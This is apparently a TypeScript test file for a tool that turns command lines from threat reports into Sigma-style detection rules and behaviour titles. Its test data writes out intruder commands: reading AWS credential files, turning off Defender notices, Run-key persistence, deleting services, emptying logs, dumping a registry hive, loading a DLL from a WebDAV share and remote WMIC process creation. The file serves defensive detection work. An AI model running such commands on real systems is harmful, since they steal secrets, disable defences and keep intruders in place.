import { selfTestRule } from '../evaluate/self-test';
import { behaviourTitle } from './behaviour-titles';
import { generateBuiltinRules, type TemplatePlatform } from './builtin-sigma-agent';
import { programRuns } from './command-program';

// Titles name what a command does, not "<Program> Run On <folder>". Command lines written for these tests.

const article = { title: 'Synthetic title note', url: 'https://notes.example.org/titles', date: '2026-11-27' };
const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
const cmdline = (value: string) => ({ ...item, value, executable: value.split(' ')[0] ?? value });
const processRules = (platform: TemplatePlatform, ...commandLines: string[]) =>
  generateBuiltinRules({ article, platform, cmdlines: commandLines.map(cmdline) }).filter(
    (draft) => draft.telemetryClass === 'process_creation',
  );

describe('behaviour titles of everyday programs and intruder tools', () => {
  it.each([
    ['cat', ['cat /home/deploy/.aws/credentials'], 'File credentials Read Via Cat'],
    ['mkdir', ['mkdir -p /etc/systemd/system/quill.target.wants'], 'Systemd Unit Directory Created Via Mkdir'],
    ['mkdir', ['mkdir -p /opt/quill/cache'], 'Directory cache Created Via Mkdir'],
    [
      'ln',
      ['ln -s /run/quill.service /run/systemd/system/multi-user.target.wants/quill.service'],
      'Systemd Unit Enabled Through A Symbolic Link',
    ],
    [
      'reg.exe',
      ['reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\UX Configuration" /v Notification_Suppress /d 1'],
      'Microsoft Defender Policy Changed Via Reg.EXE',
    ],
    [
      'reg.exe',
      ['reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\QuillSvc /v ImagePath /d C:\\q.exe'],
      'Service Configuration Changed Via Reg.EXE',
    ],
    ['reg.exe', ['reg add HKCU\\Software\\Quill /v Mode /d 2'], 'Registry Modification Via Reg.EXE'],
    ['truncate', ['truncate -s 0 /var/log/quill.log'], 'File quill.log Emptied Via Truncate'],
    ['perl', ["perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);'"], 'Inline Script Run Via Perl'],
    ['quillpack', ['quillpack --cache.size=30 --endpoint relay'], 'Reported Tool Quillpack Run'],
    ['notepad.exe', ['C:\\Windows\\notepad.exe C:\\Users\\Public\\notes.txt'], 'File notes.txt Opened In An Editor Via Notepad.EXE'],
  ])('%s', (image, commandLines, title) => {
    expect(behaviourTitle(image, commandLines)).toBe(title);
  });

  it('names the kind of thing worked on when the command gives no file name', () => {
    expect(behaviourTitle('cat', ['cat settings'])).toBe('File Read Via Cat');
  });

  it('never titles a rule "Run On" a folder the program itself sits in', () => {
    const [rule] = processRules('windows', 'C:\\Program Files\\QuillDB\\bin\\qsql.exe -U admin -c "SELECT secret FROM vault"');
    expect(rule?.rule.title).toBe('Reported Tool Qsql.EXE Run');
    expect(rule?.rule.detection['selection']).toMatchObject({ 'Image|endswith': '\\qsql.exe' });
  });
});

describe('an unquoted Windows path with spaces is one program', () => {
  it('runs the program the path ends in', () => {
    expect(programRuns('C:\\Program Files\\QuillDB\\bin\\qsql.exe -U admin', true).map((run) => run.image)).toEqual(['qsql.exe']);
    expect(programRuns('C:\\Users\\Public\\tool -x a b.exe', true).map((run) => run.image)).toEqual(['tool.exe']);
  });
});

describe('services stopped or deleted with one verb are one rule', () => {
  const names = ['QuillGuard', 'QuillFilter', 'QuillNet', 'QuillBoot', 'QuillScan', 'QuillUpdate', 'QuillTray'];
  const rules = processRules('windows', ...names.map((name) => `sc delete ${name}`), ...names.map((name) => `sc stop ${name}`));

  it('titles each by what it does to the services, with no numbered parts', () => {
    expect(rules.map((draft) => draft.rule.title).sort()).toEqual([
      'Services Deleted Via Sc.EXE (QuillGuard, QuillFilter And 5 More)',
      'Services Stopped Via Sc.EXE (QuillGuard, QuillFilter And 5 More)',
    ]);
  });

  it('keys on the program, the verb and the names, and fires on each command', () => {
    const deleted = rules.find((draft) => draft.rule.title.startsWith('Services Deleted'));
    expect(deleted?.rule.detection).toEqual({
      selection_img: [{ 'Image|endswith': '\\sc.exe' }, { OriginalFileName: 'sc.exe' }],
      selection_verb: { 'CommandLine|contains': ' delete ' },
      selection_service: { 'CommandLine|contains': names },
      condition: 'all of selection_*',
    });
    const observables = names.map((name) => ({ type: 'cmdline', value: `sc delete ${name}` }));
    expect(selfTestRule(deleted?.rule as unknown as Record<string, unknown>, observables).fired_on).toHaveLength(names.length);
  });

  it('leaves a single service command its own rule', () => {
    expect(processRules('windows', 'sc stop QuillGuard').map((draft) => draft.rule.title)).toEqual(['Service Stopped Via Sc.EXE']);
  });
});

describe('housekeeping commands', () => {
  it('make no rule of reading, listing, creating or removing a plain file', () => {
    expect(processRules('linux', 'cat quill.toml', 'rm -f quill-linux-amd64.tar.gz', 'mkdir -p out/quill', 'ls -la /opt/quill')).toEqual(
      [],
    );
  });

  it('keep the ones that show a behaviour: a hidden folder, a systemd unit folder, a copy', () => {
    const titles = processRules(
      'linux',
      'mkdir -p /var/tmp/.quill-cache/bin',
      'mkdir -p /run/systemd/system/quill.target.wants',
      'cp /tmp/.q/quill /usr/local/bin/quilld',
    ).map((draft) => draft.rule.title);
    expect(titles).toEqual(expect.arrayContaining(['Hidden Directory Creation Via Mkdir', 'Systemd Unit Directory Created Via Mkdir']));
    expect(titles.some((title) => /Cp$/.test(title))).toBe(true);
  });

  it('titles a Run key persistence only where a value is written under it, by reg.exe or PowerShell', () => {
    const run = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
    expect(behaviourTitle('reg.exe', [`reg add "${run}" /v Tray /t REG_SZ /d C:\\Users\\Public\\tray.exe /f`])).toBe(
      'Run Key Persistence Via Reg.EXE',
    );
    expect(behaviourTitle('reg.exe', [`reg query "${run}"`])).toBe('Run Key Startup Entries Queried Via Reg.EXE');
    expect(behaviourTitle('reg.exe', [`reg query ${run}Once /s`])).toBe('Run Key Startup Entries Queried Via Reg.EXE');
    expect(behaviourTitle('reg.exe', [`reg delete "${run}" /v Tray /f`])).toBe('Startup Entry Removed From A Run Key Via Reg.EXE');
    const powershell = (code: string) => behaviourTitle('powershell.exe', [`powershell.exe -NoProfile -Command "${code}"`]);
    expect(
      powershell("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Tray -Value C:\\x.exe"),
    ).toBe('Run Key Persistence Via PowerShell');
    expect(
      powershell('New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name Tray -Value C:\\x.exe'),
    ).toBe('Run Key Persistence Via PowerShell');
    expect(powershell('Get-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run')).not.toMatch(/Persistence/);
    // The rule generated from a query alone is titled by it.
    expect(processRules('windows', `reg query "${run}"`).map((draft) => draft.rule.title)).toEqual([
      'Run Key Startup Entries Queried Via Reg.EXE',
    ]);
  });

  it('reads reg, sc, schtasks, net and wmic through the command-line model: the key written, the server, the verb', () => {
    // The data a value holds is not the key written: no Run-key title for a path ending in run.exe.
    expect(behaviourTitle('reg.exe', ['reg add HKCU\\Software\\Example /v Tool /d C:\\Tools\\run.exe /f'])).toBe(
      'Registry Modification Via Reg.EXE',
    );
    expect(behaviourTitle('reg.exe', ['reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Tool /d C:\\x.exe'])).toBe(
      'Run Key Persistence Via Reg.EXE',
    );
    expect(behaviourTitle('reg.exe', ['reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s.hiv'])).toBe('Registry Hive Dump Via Reg.EXE');
    // A binary on a share is not a remote service creation; a server before the verb is.
    expect(behaviourTitle('sc.exe', ['sc create Example binPath= \\\\files\\share\\x.exe'])).toBe('Service Creation Or Change Via Sc.EXE');
    expect(behaviourTitle('sc.exe', ['sc \\\\host01 create Example binPath= C:\\x.exe'])).toBe('Remote Service Creation Via Sc.EXE');
    expect(behaviourTitle('net.exe', ['net stop Example'])).toBe('Service Stopped Via Net.EXE');
    expect(behaviourTitle('net.exe', ['net localgroup administrators example /add'])).toBe('User Account Creation Via Net.EXE');
    // Mapping a share is not discovery; over WebDAV (a port or SSL after the host, DavWWWRoot) it says so.
    expect(behaviourTitle('net.exe', ['net use \\\\198.51.100.9@8888\\davwwwroot\\'])).toBe('WebDAV Share Mapped Via Net.EXE');
    expect(behaviourTitle('net.exe', ['net use Z: \\\\files01\\projects /persistent:no'])).toBe('Network Share Mapped Via Net.EXE');
    expect(behaviourTitle('net.exe', ['net view \\\\files01'])).toBe('Domain And Group Discovery Via Net.EXE');
    expect(behaviourTitle('regsvr32.exe', ['regsvr32 /s \\\\198.51.100.9@8888\\davwwwroot\\q.dll'])).toBe(
      'Regsvr32.EXE DLL Registration From A Remote Share',
    );
    expect(behaviourTitle('regsvr32.exe', ['regsvr32 /s C:\\ProgramData\\q.dll'])).toBe(
      'Regsvr32.EXE DLL Registration From Unusual Location',
    );
    expect(behaviourTitle('schtasks.exe', ['schtasks /run /tn create'])).toBe('Scheduled Task Started Via Schtasks.EXE');
    expect(behaviourTitle('wmic.exe', ['wmic /node:host01 process call create "cmd.exe /c whoami"'])).toBe('Process Creation Via Wmic.EXE');
    expect(behaviourTitle('wmic.exe', ['wmic service where name="Example" call stopservice'])).toBe(
      'Service Queried Or Changed Via Wmic.EXE',
    );
  });
});
